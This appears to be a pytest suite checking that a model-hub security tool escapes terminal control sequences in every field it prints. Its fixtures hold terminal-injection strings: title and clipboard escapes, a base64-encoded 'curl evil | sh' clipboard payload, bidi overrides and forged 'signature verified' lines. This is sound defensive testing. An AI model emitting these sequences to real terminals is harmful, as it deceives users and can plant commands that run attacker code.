"""Text from outside reaches a terminal only made printable (safehub/_internal/text.py).

A policy file's ``reason``, a file's path, a server's error message, a lockfile's field,
a repo's docstring and entrypoint names, a record in the cache: none of them may move the
cursor, erase a line, set the window title, write the clipboard (OSC 52), colour a fake
verdict, reverse a line (bidi) or start a line that reads as safehub's own. Each surface
that writes to a terminal is fed the same hostile text through every field it shows: the
raw characters never reach the output, their escaped form does; ``--json`` stays exact.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import pexpect
import pytest
from hypothesis import given
from hypothesis import strategies as st

import safehub
from safehub._internal.text import REFUSED, printable
from safehub.cli import main
from safehub.run import environment
from tests.conftest import HubRepo, child_pythonpath, needs_torch, runs
from tests.helpers_load import cli
from tests.support import GitHubStandIn
from tests.support.transport import Reply

#: Lone surrogate: what a file name that is not UTF-8 decodes to (os.fsdecode).
SURROGATE = os.fsdecode(b"\xff")

#: OSC title, OSC 52 clipboard, CSI erase line and colour, a one-byte C1 CSI, BEL, a
#: carriage return, a line that reads as safehub's own, bidi override and isolate, NEL,
#: the Unicode line separator, a zero-width space and an invisible tag character.
HOSTILE = ("\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2K\x1b[32mok\x9b2K\r"
           "\n  signature  verified\u202eevil\u2066\x85\u2028\u200b\U000e0041")

#: What must never reach a terminal raw (the line break: where the text is one field).
RAW = ("\x1b", "\x07", "\x9b", "\r", "\u202e", "\u2066", "\x85", "\u2028", "\u200b",
       "\U000e0041", SURROGATE)
FORGED = "\n  signature  verified"

#: Its escaped form, which must show instead.
ESCAPED = ("\\x1b]0;pwned\\x07", "\\x1b]52;c;", "\\x1b[2K", "\\x1b[32mok", "\\x9b2K", "\\r",
           "\\n  signature  verified", "\\u202eevil", "\\u2066", "\\x85", "\\u2028",
           "\\u200b", "\\U000e0041")


def toml_string(text: str) -> str:
    """``text`` as a TOML (or Python) basic string, every character but printable ASCII
    written as an escape."""
    def one(c: str) -> str:
        if c in '"\\':
            return "\\" + c
        if " " <= c <= "~":
            return c
        return f"\\u{ord(c):04x}" if ord(c) <= 0xffff else f"\\U{ord(c):08x}"
    return '"' + "".join(one(c) for c in text) + '"'


def assert_printable(shown: str, *, forged: str = FORGED) -> None:
    """Nothing raw from :data:`HOSTILE` is in ``shown``, nor its forged line."""
    for char in RAW:
        assert char not in shown, (char, shown)
    assert forged not in shown, shown


def assert_escaped(shown: str) -> None:
    assert_printable(shown)
    for form in ESCAPED:
        assert form in shown, (form, shown)


def decoded(raw: bytes) -> str:
    """A child's output as text, any byte that is not UTF-8 kept as a lone surrogate."""
    return raw.decode("utf-8", "surrogateescape")


def deny_file(folder: Path, repo: str = "evil/*", *, mode: str = "enforce") -> Path:
    path = folder / "deny.toml"
    path.write_text(f'[safehub]\nmode = "{mode}"\n\n[[deny]]\nrepo = "{repo}"\n'
                    f"reason = {toml_string(HOSTILE)}\n")
    return path


@pytest.fixture
def denied(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A policy file (on SAFEHUB_POLICY) whose deny rule gives :data:`HOSTILE` as reason."""
    path = deny_file(isolated)
    monkeypatch.setenv("SAFEHUB_POLICY", str(path))
    return path


# -- the function -------------------------------------------------------------------------

#: Any character at all (lone surrogates and unassigned code points too), the refused
#: categories drawn often, and whole escape sequences.
ANY_TEXT = st.text(st.characters(exclude_categories=())
                   | st.characters(categories=["Cc", "Cf", "Cs", "Zl", "Zp"])
                   | st.sampled_from(["\n", "\r", "\t", "\\", "\x1b", "\x9b"]))
SEQUENCES = st.lists(ANY_TEXT | st.sampled_from([
    "\x1b]0;title\x07", "\x1b]52;c;cHduZWQ=\x07", "\x1b[2K", "\x1b[32m", "\x9b31m", "\\x1b",
    "\\u202e", "\\", "\r\n", "\U000e0041"])).map("".join)


@given(SEQUENCES)
def test_nothing_of_a_refused_category_comes_out(text: str) -> None:
    for shown, kept in ((printable(text), ""), (printable(text, lines=True), "\n\t")):
        assert all(c in kept or unicodedata.category(c) not in REFUSED for c in shown), shown
        shown.encode("utf-8")  # a lone surrogate would make a UTF-8 terminal raise


@given(SEQUENCES)
def test_escaping_twice_is_escaping_once(text: str) -> None:
    once = printable(text)
    assert printable(once) == once and printable(once, lines=True) == once
    lined = printable(text, lines=True)
    assert printable(lined, lines=True) == lined
    assert printable(lined) == once  # the single-line form of either is the same


@given(st.text(st.characters(exclude_categories=[*REFUSED, "Cc"])))
def test_printable_text_is_left_as_it_is(text: str) -> None:
    assert printable(text) == text  # a backslash, a path, any script, an emoji


@pytest.mark.parametrize(("raw", "shown"), [
    ("\x1b]0;t\x07", "\\x1b]0;t\\x07"), ("\x9b2K", "\\x9b2K"), ("\x7f", "\\x7f"),
    ("\x00", "\\x00"), ("a\nb", "a\\nb"), ("\r", "\\r"), ("\t", "\\t"),
    ("\u202e", "\\u202e"), ("\u2067", "\\u2067"), ("\u200e\u200f\u061c", "\\u200e\\u200f\\u061c"),
    ("\u2028\u2029", "\\u2028\\u2029"), ("\u200d", "\\u200d"), ("\ufeff", "\\ufeff"),
    ("\U000e0041", "\\U000e0041"), (SURROGATE, "\\udcff"), ("\ud800", "\\ud800"),
    ("C:\\x1b\\Users", "C:\\x1b\\Users"), ("é 中 \u00a0 😀", "é 中 \u00a0 😀"),
])
def test_each_escape_is_visible_and_reads_as_the_character(raw: str, shown: str) -> None:
    assert printable(raw) == shown


def test_lines_keeps_line_breaks_and_tabs_only() -> None:
    assert printable("a\n\tb\r\x1b", lines=True) == "a\n\tb\\r\\x1b"


# -- errors: the command, a Python caller, safehub run, the environment hook --------------

def test_a_deny_reason_in_check_and_in_the_command_s_errors(
        denied: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(capsys, "check", "evil/x:v1")
    assert code == 1 and err == ""
    assert_escaped(out)
    code, out, err = cli(capsys, "load", "evil/x:v1", "model")
    assert code == 1 and out == "" and err.startswith("safehub: PolicyDenied: ")
    assert_escaped(err)
    assert err.count("\n") == 2 and "\n  fix: in " in err  # the message's line, the fix's


def test_json_output_stays_exact(denied: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = cli(capsys, "check", "evil/x:v1", "--json")
    assert code == 1 and out.isascii()
    assert json.loads(out)["reasons"][0].endswith(f": {HOSTILE}")
    code, out, err = cli(capsys, "load", "evil/x:v1", "model", "--json")
    assert code == 1 and out.isascii() and HOSTILE in json.loads(out)["message"]
    assert_escaped(err)


def test_a_python_caller_s_traceback_shows_the_error_printable(denied: Path) -> None:
    with pytest.raises(safehub.PolicyDenied) as caught:
        safehub.load("evil/x:v1", "model")
    assert HOSTILE in caught.value.message  # the attribute stays exact
    assert_escaped(str(caught.value))
    # Python's own traceback printer shows str(error).
    proc = subprocess.run([sys.executable, "-c", "import safehub\n"
                           "safehub.load('evil/x:v1', 'model')"], capture_output=True)
    err = decoded(proc.stderr)
    assert proc.returncode == 1 and "safehub.errors.PolicyDenied: policy refuses" in err
    assert_escaped(err)


SCRIPT = "import safehub\n\n\ndef main():\n    safehub.load('evil/x:v1', 'model')\n\n\nmain()\n"


def test_safehub_run_s_excepthook_shows_the_error_printable(denied: Path,
                                                            tmp_path: Path) -> None:
    script = tmp_path / "train.py"
    script.write_text(SCRIPT)
    proc = subprocess.run([sys.executable, "-m", "safehub", "run", "--", sys.executable,
                           str(script)], capture_output=True)
    err = decoded(proc.stderr)
    assert proc.returncode == 1 and "safehub: PolicyDenied: policy refuses evil/x:v1" in err
    assert f'File "{script}", line 5, in main' in err  # the program's own frames
    assert_escaped(err)


def test_the_environment_hook_s_excepthook_shows_the_error_printable(
        denied: Path, tmp_path: Path) -> None:
    site_dir = tmp_path / "site-packages"
    site_dir.mkdir()
    assert environment.install(site_dir).installed
    proc = subprocess.run([sys.executable, "-c", f"import site\nsite.addsitedir({str(site_dir)!r})"
                           f"\n{SCRIPT}"], capture_output=True)
    err = decoded(proc.stderr)
    assert proc.returncode == 1 and "safehub: PolicyDenied: policy refuses evil/x:v1" in err
    assert "Traceback" in err and "safehub/" not in err.split("safehub: PolicyDenied")[0]
    assert_escaped(err)


# -- the trust prompt, on a real terminal -------------------------------------------------

PROMPTED = """
import sys, safehub
try:
    safehub.load(sys.argv[1], "tiny", verbose=False)
except safehub.UntrustedRepoError as e:
    print("REFUSED")
"""


def test_the_prompt_shows_every_field_printable(hub_repo: HubRepo, tmp_path: Path,
                                                canary: Path) -> None:
    """A project file in a folder whose name holds escapes and a byte that is not UTF-8
    softens (mode = "warn") a deny rule whose reason is hostile: the prompt's ``why``
    names both."""
    work = Path(os.fsdecode(bytes(tmp_path) + b"/work\x1b[2K\xff\n  fix: sh"))
    work.mkdir()
    deny_file(work, "acme/*", mode="warn").rename(work / "safehub.toml")
    env = {**os.environ, "PYTHONPATH": child_pythonpath()}
    env.pop("CI", None)
    child = pexpect.spawn(sys.executable, ["-c", PROMPTED, f"{hub_repo.spec}:v1.0"],
                          cwd=str(work), env=env, timeout=120)
    child.expect(rb"\[y/N\] ")
    shown = decoded(child.before)
    child.sendline(b"n")
    child.expect(pexpect.EOF)
    child.close()
    assert "REFUSED" in decoded(child.before) and runs(canary) == 0
    assert f"  repo       {hub_repo.spec}" in shown and hub_repo.sha in shown
    shown = shown.replace("\r\n", "\n")  # the terminal's own line ends
    assert_escaped(shown)
    assert "work\\x1b[2K\\udcff\\n  fix: sh/safehub.toml" in shown
    assert "\n  fix: sh" not in shown


# -- paths, specs, servers, lockfiles, the cache, repos' own text -------------------------

@pytest.fixture
def hostile_dir(tmp_path: Path) -> Path:
    """A folder whose name holds escapes, a line that reads as a fix, and a non-UTF-8 byte
    (no ``:``, which would split it on SAFEHUB_POLICY)."""
    path = Path(os.fsdecode(bytes(tmp_path) + b"/p\x1b]0;t\x07\n  run sh\xe2\x80\xae\xff"))
    path.mkdir()
    return path


def assert_path_escaped(shown: str, surrogate: str = "\\udcff") -> None:
    assert_printable(shown, forged="\n  run sh")
    assert f"p\\x1b]0;t\\x07\\n  run sh\\u202e{surrogate}" in shown, shown


def test_a_policy_file_s_path_and_faults(hostile_dir: Path, capsys: pytest.CaptureFixture[str],
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    policy = hostile_dir / "policy.toml"
    policy.write_text(f"[safehub]\nversion = 1\n{toml_string(HOSTILE)} = 1\n")
    monkeypatch.setenv("SAFEHUB_POLICY", str(policy))
    code, out, err = cli(capsys, "check", "acme/models:v1")  # invalid: nothing loads
    assert code == 1
    shown = out + err
    assert_path_escaped(shown)
    assert_printable(shown)
    code, out, err = cli(capsys, "load", "acme/models:v1", "m")
    assert code == 1 and "is invalid:\n    " in err  # each fault on its own line
    assert_path_escaped(err)
    code, out, _ = cli(capsys, "policy", "validate", str(policy))
    assert code == 1
    assert_path_escaped(out)
    assert_printable(out)
    code, out, err = cli(capsys, "policy", "validate", str(policy), "--json")
    assert json.loads(out)["files"][0]["file"] == str(policy)
    policy.write_text("[[allow]]\nrepo = 'acme/*'\n")
    code, out, _ = cli(capsys, "policy", "show")
    assert code == 0
    assert_path_escaped(out)
    code, out, _ = cli(capsys, "policy", "show", "--json")
    assert str(policy) in [f["path"] for f in json.loads(out)["searched"]]


@pytest.mark.parametrize("spec", ["acme/models:v1\x1b[2K", "acme/mo\u202edels:v1",
                                  f"acme/models:v1{SURROGATE}", "https://github.com/a/b/tree/"
                                  "v1\x1b]0;t\x07", "acme/models:v1\n  fix: sh"])
def test_a_spec_the_grammar_refuses_is_named_escaped(spec: str,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    for verb in (["check", spec], ["load", spec, "model"], ["list", spec]):
        code, out, err = cli(capsys, *verb)
        assert code == 2 and out == "" and err.startswith("safehub: SpecError: ")
        assert_printable(err, forged="\n  fix: sh")
        assert err.count("\n") == 2  # the message's line, the fix's
    code, out, _ = cli(capsys, "check", spec, "--json")
    assert out.isascii() and json.loads(out)["error"] == "SpecError"


@pytest.mark.parametrize("verb", [["check", "acme/models:v1.0", "--entrypoint"],
                                  ["load", "acme/models:v1.0"], ["help", "acme/models:v1.0"]])
def test_an_entrypoint_name_the_user_typed(verb: list[str],
                                           capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(capsys, *verb, HOSTILE)
    assert code == 2 and out == "" and "is not an entrypoint name" in err
    assert_escaped(err)


def test_a_server_s_error_message(hub_repo: HubRepo, server: GitHubStandIn,
                                  capsys: pytest.CaptureFixture[str]) -> None:
    body = json.dumps({"message": HOSTILE}).encode()
    server.intercept(lambda r: "/repos/acme/models" in r.path,
                     Reply(403, body, (("Content-Type", "application/json"),)))
    code, out, err = cli(capsys, "check", f"{hub_repo.spec}:v1.0")
    assert code == 1 and "403" in out
    assert_escaped(out + err)
    code, out, err = cli(capsys, "load", f"{hub_repo.spec}:v1.0", "tiny")
    assert code == 1 and err.startswith("safehub: FetchError: ")
    assert_escaped(err)
    with pytest.raises(safehub.FetchError) as caught:
        safehub.load(f"{hub_repo.spec}:v1.0", "tiny", verbose=False)
    assert_escaped(str(caught.value))


def test_a_lockfile_s_fields(hub_repo: HubRepo, capsys: pytest.CaptureFixture[str],
                             monkeypatch: pytest.MonkeyPatch, hostile_dir: Path) -> None:
    lockfile = hostile_dir / "safehub.lock"
    lockfile.write_text(f"version = 1\n\n[[repo]]\nspec = {toml_string(HOSTILE)}\n"
                        f"commit = {toml_string(HOSTILE)}\n")
    monkeypatch.setenv("SAFEHUB_LOCKFILE", str(lockfile))
    code, out, err = cli(capsys, "load", f"{hub_repo.spec}:v1.0", "tiny")
    assert code == 1 and err.startswith("safehub: PinError: lockfile ")
    assert_path_escaped(err)
    assert_printable(err)
    code, out, err = cli(capsys, "lock", "--check")
    assert code == 1
    assert_path_escaped(out + err)
    assert_printable(out + err)


def test_cache_ls_shows_its_folder_and_records_printable(
        hub_repo: HubRepo, capsys: pytest.CaptureFixture[str], tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    # (A cache path that is not UTF-8 fails before any output: store/cache/integrity.py
    # encodes paths with str.encode, not os.fsencode.)
    cache = tmp_path / "p\x1b]0;t\x07\n  run sh\u202e" / "cache"
    monkeypatch.setenv("SAFEHUB_CACHE_DIR", str(cache))
    assert main(["prefetch", f"{hub_repo.spec}:v1.0"]) == 0
    records = sorted(cache.rglob("models.json"))
    assert records  # the repo's record: a folder named as no repo is skipped, not shown
    sneaky = records[0].parent.parent / "ev\x1b[2Kil\n  run sh"
    sneaky.mkdir()
    (sneaky / "x.json").write_bytes(records[0].read_bytes())
    capsys.readouterr()
    code, out, _ = cli(capsys, "cache", "ls")
    assert code == 0 and hub_repo.sha[:12] in out and "acme/models" in out
    assert "ev\\x1b" not in out  # the folder named as no repo is skipped
    assert_path_escaped(out, surrogate="")
    code, out, _ = cli(capsys, "cache", "ls", "--json")
    assert json.loads(out)["cache"] == str(cache)


TRICKY_HUBCONF = f'''
import os

with open(os.environ["SAFEHUB_TEST_CANARY"], "a") as _f:
    _f.write("ran\\n")

dependencies = []


def tiny():
    {toml_string(HOSTILE)}
    return 1


globals()[{toml_string("evil" + HOSTILE)}] = tiny
'''


@needs_torch
def test_a_repo_s_docstrings_and_names_in_list_and_help(
        make_hub_repo, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    repo = make_hub_repo("acme", "tricky", {"hubconf.py": TRICKY_HUBCONF})
    code, out, err = cli(capsys, "list", f"{repo.spec}:v1.0", "--trust")
    assert code == 0, err
    assert "tiny" in out.split("\n")
    assert_escaped(out)
    code, out, err = cli(capsys, "list", f"{repo.spec}:v1.0", "--trust", "--json")
    assert "evil" + HOSTILE in json.loads(out)["entrypoints"]
    code, out, err = cli(capsys, "help", f"{repo.spec}:v1.0", "tiny", "--trust")
    assert code == 0, err
    assert_printable(out, forged="\x1b")
    # A docstring is shown as the text it is: its own line breaks are kept (as
    # inspect.cleandoc leaves them), a carriage return is not.
    assert "\\x1b]0;pwned\\x07" in out and "\\r\nsignature  verified\\u202e" in out


def test_the_runtime_report_and_warnings(hub_repo: HubRepo, isolated: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    from safehub.cli.text import runtime

    report = {"mode": "enforce", "repo": "acme/models", "hosts": [HOSTILE], "lookups": [],
              "programs": [HOSTILE], "writes": [], "libraries": [], "environ": [],
              "leftovers": [], "shadowing": [{"name": HOSTILE, "shadows": HOSTILE}],
              "refused": [{"action": "write", "target": "x", "key": "writes",
                           "message": HOSTILE}]}
    assert_escaped(runtime(report))
    # A file with mode = "warn" softens its own rule: a warning, and the load goes on.
    monkeypatch.setenv("SAFEHUB_POLICY", str(deny_file(isolated, "acme/*", mode="warn")))
    with pytest.warns(UserWarning) as warned:
        safehub.Hub().trust(f"{hub_repo.spec}:v1.0")
    shown = "".join(str(w.message) for w in warned)
    assert "policy violation for acme/models" in shown
    assert_escaped(shown)
